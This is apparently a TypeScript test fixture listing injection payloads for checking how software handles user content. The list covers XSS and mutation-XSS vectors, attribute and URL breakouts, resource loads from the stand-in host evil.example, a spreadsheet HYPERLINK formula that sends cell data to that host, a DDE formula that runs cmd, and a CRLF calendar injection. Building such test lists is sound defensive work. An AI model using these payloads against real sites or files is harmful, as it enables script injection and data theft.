/**
 * Injection payloads: texts that some program has executed when displaying user content. Each leaves a marker:
 * `data-owned` on an element, or a call of `owned()` when it runs.
 */
export const hostileMarkup: readonly string[] = [
  // Elements that execute by themselves.
  '<script data-owned>owned()</script>',
  '"><script data-owned>owned()</script>',
  `'-owned()-'`,
  '</script><script data-owned>owned()</script>',
  '<!--<script></script><script data-owned>owned()</script>-->',
  '<img data-owned src=x onerror=owned()>',
  '<svg data-owned onload=owned()>',
  '<svg data-owned><animate onbegin=owned() attributeName=x></svg>',
  '<body data-owned onload=owned()>',
  '<iframe data-owned srcdoc="<script>parent.owned()</script>">',
  '<iframe data-owned src="javascript:parent.owned()">',
  '<object data-owned data="javascript:owned()">',
  '<embed data-owned src="javascript:owned()">',
  '<details data-owned open ontoggle=owned()>',
  '<video data-owned><source onerror=owned()></video>',
  '<input data-owned autofocus onfocus=owned()>',
  '<meta data-owned http-equiv=refresh content="0;javascript:owned()">',
  '<base data-owned href=//evil.example/>',
  '<link data-owned rel=stylesheet href=//evil.example/a.css>',
  '<style data-owned>@import "//evil.example/a.css"</style>',
  '<a data-owned href="javascript:owned()">press</a>',
  '<form data-owned action="javascript:owned()"><button>press</button></form>',
  // Breaking out of an attribute, an entity or a URL.
  '" onmouseover="owned()" data-owned="',
  "' onfocus='owned()' autofocus data-owned='",
  '` onerror=owned() data-owned',
  '&lt;img data-owned src=x onerror=owned()&gt;',
  '&#60;script data-owned&#62;owned()&#60;/script&#62;',
  '\\u003cscript data-owned\\u003eowned()\\u003c/script\\u003e',
  'javascript:owned()//https://example.org',
  'https://example.org/"onclick="owned()"data-owned="',
  'data:text/html,<script data-owned>owned()</script>',
  'java\tscript:owned()',
  // Double decoding.
  '<noscript><p title="</noscript><img data-owned src=x onerror=owned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img data-owned title="--&gt;&lt;img src=x onerror=owned()&gt;">',
  '<svg></p><style><a id="</style><img data-owned src=x onerror=owned()>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img data-owned onerror=owned() src>">',
  '<listing>&lt;img data-owned onerror=owned() src=x&gt;</listing>',
  '<textarea></textarea><img data-owned src=x onerror=owned()>',
  '<title></title><img data-owned src=x onerror=owned()>',
  '<xmp></xmp><script data-owned>owned()</script>',
  '<scr<script>ipt data-owned>owned()</scr</script>ipt>',
  ']]><script data-owned>owned()</script>',
  '\u2028owned()\u2029',
  '{{constructor.constructor("owned()")()}} ${owned()} <%= owned() %>',
  // Spreadsheet formulas.
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '@SUM(1+1)*owned()',
  '+owned()',
  '-owned()',
  '\t=owned()',
  // Line injection in calendars and headers.
  'A\r\nATTACH:javascript:owned()\r\nX-OWNED:1',
]

/** Joins the payloads into texts of at most `most` characters. Only payloads that are longer on their own are cut. */
export function packedMarkup(most: number): string[] {
  const packs: string[] = []
  for (const text of hostileMarkup) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + text.length < most) packs[packs.length - 1] = `${last} ${text}`
    else packs.push(text.slice(0, most))
  }
  return packs
}
